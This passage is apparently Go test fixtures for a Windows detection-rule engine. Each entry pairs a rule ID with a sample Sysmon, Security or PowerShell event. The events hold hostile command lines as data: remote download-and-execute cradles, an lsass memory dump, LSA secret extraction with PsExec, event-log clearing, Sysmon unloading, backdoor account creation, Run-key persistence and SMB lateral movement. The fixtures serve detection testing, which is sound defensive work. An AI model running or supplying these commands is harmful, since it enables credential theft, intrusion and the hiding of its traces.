			"Image":       "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
			"CommandLine": "powershell -c Clear-EventLog -LogName Security",
		},
	},
	{
		ID:      "8e8c038e-0b6e-47e6-9a8c-d350e23c04f2", // Process Injection Primitives in a PowerShell Script Block
		Channel: "Microsoft-Windows-PowerShell/Operational", EventID: 4104,
		Fields: map[string]string{
			"ScriptBlockText": "$h = OpenProcess(0x1F0FFF, $false, $pid); CreateRemoteThread($h, 0, 0, $addr, 0, 0, 0)",
		},
	},
	{
		ID:      "1e09c2ba-5766-4462-86d1-3235db5f94d5", // PowerView ACL Abuse Cmdlets Used
		Channel: "Microsoft-Windows-PowerShell/Operational", EventID: 4103,
		Fields: map[string]string{
			"Payload": "CommandInvocation(Add-DomainObjectAcl): \"Add-DomainObjectAcl\"\r\nParameterBinding(Add-DomainObjectAcl): name=\"Rights\"; value=\"DCSync\"\r\n",
		},
	},
	{
		ID:      "020366bd-fe42-476a-b5db-9b014217c228", // Process Opened With Injection Rights From Unbacked Code
		Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 10,
		Fields: map[string]string{
			"CallTrace":     "C:\\Windows\\SYSTEM32\\ntdll.dll+9d4c4|C:\\Windows\\System32\\KERNELBASE.dll+2c13e|UNKNOWN(0000000000772075)",
			"GrantedAccess": "0x147a",
			"SourceImage":   "C:\\Users\\stevie.marie\\Downloads\\winx64_payload.exe",
			"TargetImage":   "C:\\Windows\\system32\\svchost.exe",
		},
	},
	{
		ID:      "e41ea3bf-1b5f-40aa-8e65-2c72e11c1dc4", // Process Whose Image Has No Backing File Path (Process Tampering)
		Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 10,
		Fields: map[string]string{
			"TargetImage": "wardog.exe",
		},
	},
	{
		ID:      "a19040ca-a310-49fd-98f6-a52b71c5890d", // Sysmon Reports Process Image Tampering
		Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 25,
		Fields: map[string]string{
			"Image": "C:\\Users\\bob\\Desktop\\x.exe",
			"Type":  "Image is replaced",
		},
	},
	{
		ID:      "3b4001ec-794a-414c-a5ab-3537ed076258", // Register-CimProvider Loads a DLL
		Channel: "Security", EventID: 4688,
		Fields: map[string]string{
			"CommandLine": "\"C:\\Windows\\SysWow64\\Register-CimProvider.exe\" -Path C:\\ProgramData\\T1218-2.dll",
			"Image":       "C:\\Windows\\SysWOW64\\Register-CimProvider.exe",
		},
	},
	{
		ID:      "001a29e6-6e9f-4a59-8dbe-0353c5d6e4f9", // Regsvr32 Runs a Scriptlet or Remote Payload (Squiblydoo)
		Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
		Fields: map[string]string{
			"CommandLine": "\"C:\\windows\\system32\\regsvr32.exe\" /s /n /u /i:http://10.10.10.5:8444/launcher.sct scrobj.dll",
			"Image":       "C:\\Windows\\System32\\regsvr32.exe",
		},
	},
	{
		ID:      "f35980a2-75e4-48ba-8551-5739d96d5c2e", // Regsvr32 Spawns a Shell or Script Host
		Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
		Fields: map[string]string{
			"Image":       "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
			"ParentImage": "C:\\Windows\\System32\\regsvr32.exe",
		},
	},
	{
		ID:      "35a1d9b3-47f7-4b98-be5e-8b3efc5cb4a0", // Regsvr32 Registers a DLL From a User-Writable Path
		Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
		Fields: map[string]string{
			"Image":       "C:\\Windows\\System32\\regsvr32.exe",
			"CommandLine": "regsvr32 /s C:\\Users\\Public\\x.dll",
			"ParentImage": "C:\\Windows\\System32\\cmd.exe",
		},
	},
	{
		ID:      "a991e6a0-9cf6-415e-afc9-a349aca9c8ee", // Rundll32 Executes Script Through a Protocol Handler
		Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
		Fields: map[string]string{
			"Image":       "C:\\Windows\\System32\\rundll32.exe",
			"CommandLine": "rundll32.exe javascript:\"\\..\\mshtml,RunHTMLApplication \";alert(1)",
		},
	},
	{
		ID:      "59c7e771-7c15-48de-abef-88aea583982f", // Rundll32 Runs a DLL From a Temp or User Folder
		Channel: "Security", EventID: 4688,
		Fields: map[string]string{
			"CommandLine": "rundll32.exe C:\\Users\\PEDRO~1.GUS\\AppData\\Local\\Temp\\rtcpef.dll,a /p:rtcpef",
			"Image":       "C:\\Windows\\System32\\rundll32.exe",
		},
	},
	{
		ID:      "814d83a8-7605-4ba7-bdff-dd96460f650c", // Security Audit Log Cleared
		Channel: "Security", EventID: 1102,
		Fields: map[string]string{},
	},
	{
		ID:      "f2355a92-9888-4951-b4fa-bc62e4de4807", // Sysmon Driver Unloaded or Service Removed
		Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
		Fields: map[string]string{
			"Image":       "C:\\Windows\\System32\\fltMC.exe",
			"CommandLine": "fltmc unload SysmonDrv",
		},
	},
	{
		ID:      "04a7aadf-4212-4a2a-bf7b-b1f232eb549b", // System Binary Name Running From an Unexpected Directory
		Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
		Fields: map[string]string{
			"Image":       "C:\\Users\\Public\\svchost.exe",
			"CommandLine": "svchost.exe",
		},
	},
	{
		ID:      "975510fb-3853-4067-8510-64a1269f140c", // System or Application Event Log Cleared
		Channel: "System", EventID: 104,
		Fields: map[string]string{
			"Provider_Name": "Microsoft-Windows-Eventlog",
		},
	},
	{
		ID:      "f3dbc6d7-202b-44eb-af44-0eeba9578812", // System Service Loads an Unsigned DLL From a System Directory
		Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 7,
		Fields: map[string]string{
			"Image":       "C:\\Windows\\System32\\svchost.exe",
			"ImageLoaded": "C:\\Windows\\System32\\wlbsctrl.dll",
			"Signed":      "false",
		},
	},
	{
		ID:      "143005ee-ffdb-44e4-a21b-a5a9d4d9d4a7", // Proxy-Execution Binary Loads an Unsigned DLL From a User-Writable Path
		Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 7,
		Fields: map[string]string{
			"Image":       "C:\\Windows\\System32\\rundll32.exe",
			"ImageLoaded": "C:\\Users\\PEDRO~1.GUS\\AppData\\Local\\Temp\\rtcpef.dll",
			"Signed":      "false",
		},
	},
	{
		ID:      "367de9de-2598-4ff0-88b3-7e5cec073954", // Event Log Cleared, Disabled or Redirected With wevtutil
		Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
		Fields: map[string]string{
			"CommandLine": "wevtutil cl Security",
			"Image":       "C:\\Windows\\System32\\wevtutil.exe",
		},
	},
	{
		ID:      "256f67fb-a299-4bca-a327-99afaf8aabd8", // WMIC Formats Output With a Remote or Local XSL Script
		Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
		Fields: map[string]string{
			"CommandLine": "wmic  process list /FORMAT:\"https://raw.githubusercontent.com/redcanaryco/atomic-red-team/master/atomics/T1220/src/wmicscript.xsl\"",
			"Image":       "C:\\Windows\\System32\\wbem\\WMIC.exe",
		},
	},
	{
		ID:      "a329c803-59f9-4915-9a6d-b65332ff935b", // Windows Update Client Loads an Arbitrary DLL
		Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
		Fields: map[string]string{
			"Image":       "C:\\Windows\\System32\\wuauclt.exe",
			"CommandLine": "wuauclt.exe /UpdateDeploymentProvider C:\\Users\\Public\\x.dll /RunHandlerComServer",
		},
	},
	{
		ID:      "2fbdd4c0-d788-4ebf-bedb-f6710dffc16e", // Directory Queried Over ADSI by a Program From a User Folder
		Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 12,
		Fields: map[string]string{
			"Image":        "C:\\Users\\pgustavo\\Desktop\\GruntHTTP.exe",
			"TargetObject": "HKU\\S-1-5-21-4228717743-1032521047-1810997296-1104\\Software\\Microsoft\\ADs\\Providers\\LDAP\\CN=Aggregate,CN=Schema,CN=Configuration,DC=theshire,DC=local",
		},
	},
	{
		ID:      "b30869c5-2eb6-49e2-9af8-223ebf76bb4b", // Domain Controller or Trust Discovery
		Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
		Fields: map[string]string{
			"Image":       "C:\\Windows\\System32\\nltest.exe",
			"CommandLine": "nltest /domain_trusts /all_trusts",
		},
	},
	{
		ID:      "83b12cb9-8495-4a00-9d10-1fdb6dae0833", // LDAP Connection From a Program in a User-Writable Folder
		Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 3,
		Fields: map[string]string{
			"DestinationPort": "389",
			"Image":           "C:\\Users\\pgustavo\\Desktop\\GruntHTTP.exe",
		},
	},
	{
		ID:      "48408dd1-6f1a-4e2c-ae21-be161b7d8484", // Account or Group Enumeration With net.exe
		Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
		Fields: map[string]string{
			"CommandLine": "\"C:\\windows\\system32\\net.exe\" user Administrator",
			"Image":       "C:\\Windows\\System32\\net.exe",
		},
	},
	{
		ID:      "ac775fe3-c6c0-4be2-a8ab-0221108205ba", // Domain Account or Group Enumeration With net.exe
		Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
		Fields: map[string]string{
			"Image":       "C:\\Windows\\System32\\net.exe",
			"CommandLine": "net user pgustavo /domain",
		},
	},
	{
		ID:      "39db8e43-bf9a-433d-bbf0-4393fbc895d4", // Network Configuration or Share Discovery From a Shell
		Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
		Fields: map[string]string{
			"CommandLine": "\"C:\\Windows\\System32\\cmd.exe\" /c ipconfig /all >> config\\envinfo.txt",
			"ParentImage": "C:\\Windows\\System32\\cscript.exe",
		},
	},
	{
		ID:      "50eef79e-4a58-418e-90b8-f5a529e020f2", // Hunting for Hosts Where the User Is Local Administrator
		Channel: "Microsoft-Windows-PowerShell/Operational", EventID: 4103,
		Fields: map[string]string{
			"Payload": "CommandInvocation(Find-LocalAdminAccess): \"Find-LocalAdminAccess\"\r\n",
		},
	},
	{
		ID:      "b0cbd447-d709-4901-9457-ad0b863dfb4f", // PowerView Enumeration Functions in a Script Block
		Channel: "Microsoft-Windows-PowerShell/Operational", EventID: 4104,
		Fields: map[string]string{
			"ScriptBlockText": "Get-DomainUser -SPN | Select-Object samaccountname, serviceprincipalname",
		},
	},
	{
		ID:      "7acb9b8e-344d-4e0e-a931-4238015b4f99", // PowerView Domain User, Group or ACL Enumeration
		Channel: "Microsoft-Windows-PowerShell/Operational", EventID: 4103,
		Fields: map[string]string{
			"Payload": "CommandInvocation(Get-DomainUser): \"Get-DomainUser\"\r\nParameterBinding(Get-DomainUser): name=\"SPN\"; value=\"True\"\r\n",
		},
	},
	{
		ID:      "90938316-9c36-44ce-859b-5270008c5c34", // Security Software Discovery
		Channel: "Security", EventID: 4688,
		Fields: map[string]string{
			"CommandLine": "mshta  vbscript:Execute(\"CreateObject(\"\"Wscript.Shell\"\").Run \"\"powershell -noexit -command Get-Service sysmon\"\":close\")",
		},
	},
	{
		ID:      "36fed34e-de45-46f3-8541-a9edb30b3da3", // Remote Session or Logged-On User Enumeration
		Channel: "Microsoft-Windows-PowerShell/Operational", EventID: 4103,
		Fields: map[string]string{
			"Payload": "CommandInvocation(Get-NetSession): \"Get-NetSession\"\r\nParameterBinding(Get-NetSession): name=\"ComputerName\"; value=\"fs01\"\r\n",
		},
	},
	{
		ID:      "173c5e3c-12ff-4fe8-9bf5-ba3b4cfba502", // Network Session or Logged-On User Enumeration From the Command Line
		Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
		Fields: map[string]string{
			"Image":       "C:\\Windows\\System32\\net.exe",
			"CommandLine": "net session",
		},
	},
	{
		ID:      "72fe4e3f-bb53-4260-adad-e12f8e2942d9", // PowerView-Style Enumeration Commands Run by a Compiled Tool
		Channel: "security", EventID: 4688,
		Fields: map[string]string{
			"CommandLine": "SharpView.exe  Get-DomainUser -SPN",
			"Image":       "C:\\ProgramData\\SharpView.exe",
		},
	},
	{
		ID:      "a7c3749f-e558-453c-989e-b3ebb86e784e", // Installed Software or Browser Version Discovery From the Command Line
		Channel: "Security", EventID: 4688,
		Fields: map[string]string{
			"CommandLine": "reg  query \"HKEY_LOCAL_MACHINE\\Software\\Microsoft\\Internet Explorer\" /v svcVersion",
		},
	},
	{
		ID:      "10a806a0-0ac9-4cc2-82b7-a47ef4fb2d08", // System Information Discovery With systeminfo or hostname
		Channel: "Security", EventID: 4688,
		Fields: map[string]string{
			"CommandLine": "systeminfo",
			"Image":       "C:\\Windows\\System32\\systeminfo.exe",
			"ParentImage": "C:\\Windows\\System32\\cmd.exe",
		},
	},
	{
		ID:      "93744a6e-b3e3-4535-9cca-c59f37a2fce7", // Process and Service Discovery With tasklist
		Channel: "Security", EventID: 4688,
		Fields: map[string]string{
			"CommandLine": "tasklist  /fo table /svc /fi \"USERNAME eq NT AUTHORITY\\SYSTEM\"",
			"Image":       "C:\\Windows\\System32\\tasklist.exe",
		},
	},
	{
		ID:      "30946e2b-f11b-464e-b59c-812a8e3ab590", // Current User and Privilege Discovery With whoami
		Channel: "Security", EventID: 4688,
		Fields: map[string]string{
			"CommandLine": "whoami  ",
			"Image":       "C:\\Windows\\System32\\whoami.exe",
			"ParentImage": "C:\\Windows\\System32\\cmd.exe",
		},
	},
	{
		ID:      "3f42b6e7-ea18-43c3-834b-5e083f2af1ff", // C# Compiler Invoked by MSBuild or a Script Host
		Channel: "security", EventID: 4688,
		Fields: map[string]string{
			"Image":       "C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\csc.exe",
			"ParentImage": "C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\MSBuild.exe",
		},
	},
	{
		ID:      "e5814d12-fb32-485f-bff3-980c7240eeda", // Executable With a Document Double Extension Started
		Channel: "Security", EventID: 4688,
		Fields: map[string]string{
			"Image": "C:\\Users\\nora.quemona\\Downloads\\happy_image.jpeg.exe",
		},
	},
	{
		ID:      "3f9cea44-0e1f-4ea9-bd11-21430d951e12", // Office Application Spawns a Shell or Script Host
		Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
		Fields: map[string]string{
			"ParentImage": "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE",
			"Image":       "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
			"CommandLine": "powershell -nop -w hidden",
		},
	},
	{
		ID:      "98426eb6-3e57-454a-a50a-652e2f958ea6", // PowerShell Download Cradle on the Command Line
		Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
		Fields: map[string]string{
			"Image":       "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
			"CommandLine": "powershell -c IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.7/a.ps1')",
		},
	},
	{
		ID:      "5cfeaa26-1f02-4202-bae0-95e290e95c1c", // PowerShell Script Block Downloads and Executes Code
		Channel: "Microsoft-Windows-PowerShell/Operational", EventID: 4104,
		Fields: map[string]string{
			"ScriptBlockText": "iex (iwr -UseBasicParsing http://10.0.5.13/Out-Minidump.ps1) ; Get-Process lsass | Out-Minidump;",
		},
	},
	{
		ID:      "7e367dbf-b477-4e6e-b1dc-0e44637f3e22", // PowerShell Started With an Encoded Command
		Channel: "security", EventID: 4688,
		Fields: map[string]string{
			"CommandLine": "\"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe\" -c \"$x=$((gp HKCU:Software\\Microsoft\\Windows\\CurrentVersion Debug).Debug);powershell -Win Hidden -enc $x\"",
			"Image":       "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
		},
	},
	{
		ID:      "0cafd991-46ca-4811-9857-e684019c6524", // PowerShell Engine Loaded Into an Unusual Process
		Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 7,
		Fields: map[string]string{
			"Image":       "C:\\Users\\pedro.gustavo\\Downloads\\winx64_payload.exe",
			"ImageLoaded": "C:\\Windows\\assembly\\NativeImages_v4.0.30319_64\\System.Manaa57fc8cc#\\27947b366dfb4feddb2be787d72ca90d\\System.Management.Automation.ni.dll",
		},
	},
	{
		ID:      "60f76d41-a610-4c44-a280-287896dedd2c", // PowerShell Launched Hidden and Non-Interactive With Profile Bypass
		Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
		Fields: map[string]string{
			"CommandLine": "\"C:\\windows\\system32\\schtasks.exe\" /Create /F /SC DAILY /ST 09:00 /TN MordorSchtask /TR \"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe -NonI -W hidden -c \\\"IEX ([Text.Encoding]::UNICODE.GetString([Convert]::FromBase64String((gp HKCU:\\Software\\Microsoft\\Windows\\CurrentVersion debug).debug)))\\\"\"",
			"Image":       "C:\\Windows\\System32\\schtasks.exe",
		},
	},
	{
		ID:      "e4eeab0c-ce0d-4202-9777-a2f39be8df9b", // PowerShell Loads the HTTP Server API
		Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 7,
		Fields: map[string]string{
			"Image":       "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
			"ImageLoaded": "C:\\Windows\\System32\\httpapi.dll",
		},
	},
	{
		ID:      "dbdd9b49-2ebc-4339-bfe1-00b592852c6a", // HTTP Listener Created in a PowerShell Script Block
		Channel: "Microsoft-Windows-PowerShell/Operational", EventID: 4104,
		Fields: map[string]string{
			"ScriptBlockText": "$l = New-Object System.Net.HttpListener; $l.Prefixes.Add(\"http://+:8000/\"); $l.Start()",
		},
	},
	{
		ID:      "734c0a7d-c63a-410d-8b7b-7980347ce884", // PowerShell Fetches Content From a URL
		Channel: "Microsoft-Windows-PowerShell/Operational", EventID: 4103,
		Fields: map[string]string{
			"Payload": "CommandInvocation(Invoke-WebRequest): \"Invoke-WebRequest\"\nParameterBinding(Invoke-WebRequest): name=\"UseBasicParsing\"; value=\"True\"\nParameterBinding(Invoke-WebRequest): name=\"Uri\"; value=\"http://10.0.5.13/Out-Minidump.ps1\"\n",
		},
	},
	{
		ID:      "7b916a29-6c63-4aba-99aa-c30d83f6ac98", // PowerShell Invokes a WMI Method to Create a Process
		Channel: "Microsoft-Windows-PowerShell/Operational", EventID: 4103,
		Fields: map[string]string{
			"Payload": "CommandInvocation(Invoke-WmiMethod): \"Invoke-WmiMethod\"\r\nParameterBinding(Invoke-WmiMethod): name=\"Name\"; value=\"Create\"\r\nParameterBinding(Invoke-WmiMethod): name=\"ArgumentList\"; value=\"cmd.exe /c C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\MSBuild.exe C:\\Windows\\Tasks\\pshell.xml\"\r\nParameterBinding(Invoke-WmiMethod): name=\"Namespace\"; value=\"root/CIMV2\"\r\nParameterBinding(Invoke-WmiMethod): name=\"Class\"; value=\"Win32_Process\"\r\nParameterBinding(Invoke-WmiMethod): name=\"ComputerName\"; value=\"WORKSTATION6.theshire.local\"\r\n",
		},
	},
	{
		ID:      "b1d5acf6-ba39-4626-8378-0e69cc607a3c", // Windows Script Host Runs a Script From a User-Writable Path
		Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
		Fields: map[string]string{
			"Image":       "C:\\Windows\\System32\\wscript.exe",
			"CommandLine": "wscript.exe C:\\Users\\bob\\Downloads\\invoice.js",
		},
	},
	{
		ID:      "fc26bc8e-97fe-4f00-baa4-a08aae6a3b90", // User Runs an Executable From Downloads or a Temp Folder
		Channel: "Security", EventID: 4688,
		Fields: map[string]string{
			"Image":       "C:\\Users\\stevie.marie\\Downloads\\winx64_payload.exe",
			"ParentImage": "C:\\Windows\\explorer.exe",
		},
	},
	{
		ID:      "2f0dd829-2201-4563-b9e8-b9b92c0dd2c8", // Process Created Through WMI
		Channel: "security", EventID: 4688,
		Fields: map[string]string{
			"Image":       "C:\\Windows\\System32\\cmd.exe",
			"ParentImage": "C:\\Windows\\System32\\wbem\\WmiPrvSE.exe",
		},
	},
	{
		ID:      "daa4bb6e-4bf2-40bf-9b27-d573427b031a", // WMIC Creates a Process on a Remote Node
		Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
		Fields: map[string]string{
			"CommandLine": "\"C:\\windows\\System32\\Wbem\\WMIC.exe\" /node:WORKSTATION6 process call create \"net user /add backdoor paw0rd1\"",
			"Image":       "C:\\Windows\\System32\\wbem\\WMIC.exe",
		},
	},
	{
		ID:      "81ab7cf2-bab9-4140-a394-72055e14aa28", // Executable or Script Written Through an Administrative Share
		Channel: "security", EventID: 5145,
		Fields: map[string]string{
			"AccessMask":         "0x17019f",
			"RelativeTargetName": "Windows\\System32\\wlbsctrl.dll",
			"ShareName":          "\\\\*\\C$",
			"SubjectUserName":    "pgustavo",
		},
	},
	{
		ID:      "ba4155eb-6c4a-4a0c-83be-62bc2638532d", // Administrative Share Accessed by a User Account
		Channel: "security", EventID: 5140,
		Fields: map[string]string{
			"IpAddress":       "172.18.39.5",
			"ShareName":       "\\\\*\\C$",
			"SubjectUserName": "pgustavo",
		},
	},
	{
		ID:      "eead145b-a7b0-4036-8d8f-3bb176e8a734", // Office Application Started for DCOM Automation
		Channel: "Security", EventID: 4688,
		Fields: map[string]string{
			"CommandLine": "\"C:\\Program Files (x86)\\Microsoft Office\\Root\\Office16\\EXCEL.EXE\" /automation -Embedding",
			"Image":       "C:\\Program Files (x86)\\Microsoft Office\\root\\Office16\\EXCEL.EXE",
		},
	},
	{
		ID:      "3b515ca8-855d-4766-be59-234f9770f514", // DCOM-Activated Application Spawns a Process
		Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
		Fields: map[string]string{
			"Image":             "C:\\Program Files (x86)\\Microsoft Office\\root\\Client\\AppVDllSurrogate64.exe",
			"ParentCommandLine": "\"C:\\Program Files (x86)\\Microsoft Office\\Root\\Office16\\EXCEL.EXE\" /automation -Embedding",
			"ParentImage":       "C:\\Program Files (x86)\\Microsoft Office\\root\\Office16\\EXCEL.EXE",
		},
	},
	{
		ID:      "0cb6daa3-0e8f-485d-b2a8-f4987b7e8060", // Excel Loads an XLL Add-in From Outside the Office Directories
		Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 7,
		Fields: map[string]string{
			"Image":       "C:\\Program Files (x86)\\Microsoft Office\\root\\Office16\\EXCEL.EXE",
			"ImageLoaded": "C:\\ProgramData\\calc.xll",
		},
	},
	{
		ID:      "d999e84e-6ad5-46ad-b68a-92776ad5cdbe", // Internet Explorer Spawns a Non-Browser Process
		Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
		Fields: map[string]string{
			"Image":       "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
			"ParentImage": "C:\\Program Files\\Internet Explorer\\iexplore.exe",
		},
	},
	{
		ID:      "8319a085-9f07-4b1a-84a1-9f141b3b21b9", // Named Pipe of a Remote Execution Tool
		Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 17,
		Fields: map[string]string{
			"PipeName": "\\PSEXESVC",
		},
	},
	{
		ID:      "b495c888-12df-4983-baf5-4e3964b30e82", // PowerShell Lateral Movement Cmdlets
		Channel: "Microsoft-Windows-PowerShell/Operational", EventID: 4103,
		Fields: map[string]string{
			"Payload": "CommandInvocation(Invoke-SMBExec): \"Invoke-SMBExec\"\r\nCommandInvocation(Out-String): \"Out-String\"\r\nCommandInvocation(ForEach-Object): \"ForEach-Object\"\r\nParameterBinding(ForEach-Object): name=\"Process\"; value=\"$_ + \"`n\"\"\r\nParameterBinding(Out-String): name=\"InputObject\"; value=\"Command executed with service PGUJLOAKFQFVOMHGFQPX on WORKSTATION6.theshire.local\"\r\nParameterBinding(ForEach-Object): name=\"InputObject\"; value=\"Command executed with service PGUJLOAKFQFVOMHGFQPX on WORKSTATION6.theshire.local\r\n\"\r\n",
		},
	},
	{
		ID:      "b0c32888-abbd-4208-885a-ecfa0da0e51c", // PowerShell Lateral Movement Functions in a Script Block
		Channel: "Microsoft-Windows-PowerShell/Operational", EventID: 4104,
		Fields: map[string]string{
			"ScriptBlockText": "$com = [activator]::CreateInstance([type]::GetTypeFromProgID(\"MMC20.Application\",\"10.0.0.9\"))",
		},
	},
	{
		ID:      "f4674eb7-fa5d-415f-bac5-2878e9b8a8f0", // PowerShell Remoting Cmdlets Target Another Computer
		Channel: "Microsoft-Windows-PowerShell/Operational", EventID: 4103,
		Fields: map[string]string{
			"Payload": "CommandInvocation(Invoke-Command): \"Invoke-Command\"\r\nParameterBinding(Invoke-Command): name=\"ComputerName\"; value=\"SRV01\"",
		},
	},
	{
		ID:      "f0189771-5cd8-4e6a-a401-fd41ab794e44", // Process Started by a Remote Execution Service
		Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
		Fields: map[string]string{
			"ParentImage": "C:\\Windows\\PSEXESVC.exe",
		},
	},
	{
		ID:      "6c3290f3-3775-49ec-8e1b-6cb32cecd37b", // PsExec Used to Run a Command as SYSTEM
		Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
		Fields: map[string]string{
			"CommandLine": "PsExec.exe  -accepteula -s reg save HKLM\\security\\policy\\secrets C:\\Users\\wardog\\AppData\\Local\\Temp\\secrets",
			"Image":       "C:\\Users\\wardog\\Downloads\\PSTools\\PsExec.exe",
		},
	},
	{
		ID:      "3c2da417-10b9-43b0-92db-13155f9e3bbc", // Service Control Manager Pipe Opened Over SMB From Another Host
		Channel: "security", EventID: 5145,
		Fields: map[string]string{
			"IpAddress":          "172.18.39.5",
			"RelativeTargetName": "svcctl",
			"ShareName":          "\\\\*\\IPC$",
			"SubjectUserName":    "pgustavo",
		},
	},
	{
		ID:      "a3de9172-fea1-4370-aac2-70479690f6e7", // Service Controlled on a Remote Host With sc.exe
		Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
		Fields: map[string]string{
			"CommandLine": "\"C:\\windows\\system32\\sc.exe\" \\\\WORKSTATION6 stop IKEEXT",
			"Image":       "C:\\Windows\\System32\\sc.exe",
		},
	},
	{
		ID:      "880f6b38-f2a5-453c-a63d-d8498160c69b", // Service Control Manager Spawns a Shell Directly
		Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
		Fields: map[string]string{
			"Image":       "C:\\Windows\\System32\\cmd.exe",
			"ParentImage": "C:\\Windows\\System32\\services.exe",
		},
	},
	{
		ID:      "052e1112-77e4-455f-a9b2-77bb14084e9e", // Executable Written by the Kernel SMB Server
		Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 11,
		Fields: map[string]string{
			"Image":          "System",
			"TargetFilename": "C:\\Windows\\System32\\wlbsctrl.dll",
		},
	},
	{
		ID:      "4f006cd4-14ae-424c-bf24-75920a4e7b26", // Command Run Through a PowerShell Remoting Session
		Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
		Fields: map[string]string{
			"Image":       "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
			"ParentImage": "C:\\Windows\\System32\\wsmprovhost.exe",
		},
	},
	{
		ID:      "92c9fa2e-4f15-4b3b-b80e-dc6df8cdab58", // Incoming PowerShell Remoting Session Host Started
		Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
		Fields: map[string]string{
			"Image": "C:\\Windows\\System32\\wsmprovhost.exe",
		},
	},
	{
		ID:      "08be6e1a-2ba2-42cf-aebf-4cc253d1b6c7", // Account Added to a Privileged Local Group From the Command Line
		Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
		Fields: map[string]string{
			"Image":       "C:\\Windows\\System32\\net.exe",
			"CommandLine": "net localgroup administrators backdoor /add",
		},
	},
	{
		ID:      "e251738c-a870-4df7-ad77-22f9d7fa4ecc", // Local Account Created From the Command Line
		Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
		Fields: map[string]string{
			"CommandLine": "\"C:\\windows\\System32\\Wbem\\WMIC.exe\" /node:WORKSTATION6 process call create \"net user /add backdoor paw0rd1\"",
			"Image":       "C:\\Windows\\System32\\wbem\\WMIC.exe",
		},
	},
	{
		ID:      "6ab719f6-2232-4134-8533-08c2d933c3a1", // User Logon Script Configured in the Registry
		Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 13,
		Fields: map[string]string{
			"Image":        "C:\\Windows\\System32\\reg.exe",
			"TargetObject": "HKU\\S-1-5-21-1-2-3-1001\\Environment\\UserInitMprLogonScript",
			"Details":      "C:\\Users\\Public\\l.bat",
		},
	},
	{
		ID:      "0fb5812f-989f-43e1-9fa2-c6c6486bb757", // Encoded Payload Stored in the Registry and Run From It
		Channel: "security", EventID: 4688,
		Fields: map[string]string{
			"CommandLine": "\"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe\" -c \"$x=$((gp HKCU:Software\\Microsoft\\Windows\\CurrentVersion Debug).Debug);powershell -Win Hidden -enc $x\"",
		},
	},
	{
		ID:      "1a5cd34e-a519-4350-a322-24094876f7db", // Run Key Added From the Command Line
		Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
		Fields: map[string]string{
			"Image":       "C:\\Windows\\System32\\reg.exe",
			"CommandLine": "reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v upd /d C:\\Users\\Public\\u.exe",
		},
	},
	{
		ID:      "aaa44c28-ce1b-4c95-9dbe-cf136c25d8f0", // Run Key Points at a Script Host, LOLBin or User-Writable Path
		Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 13,
		Fields: map[string]string{
			"Details":      "\"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe\" -c \"$x=$((gp HKCU:Software\\Microsoft\\Windows\\CurrentVersion Debug).Debug);powershell -Win Hidden -enc $x\"",
			"TargetObject": "HKU\\S-1-5-21-3125456671-949036322-3048627137-1104\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\Updater",
		},
	},
	{
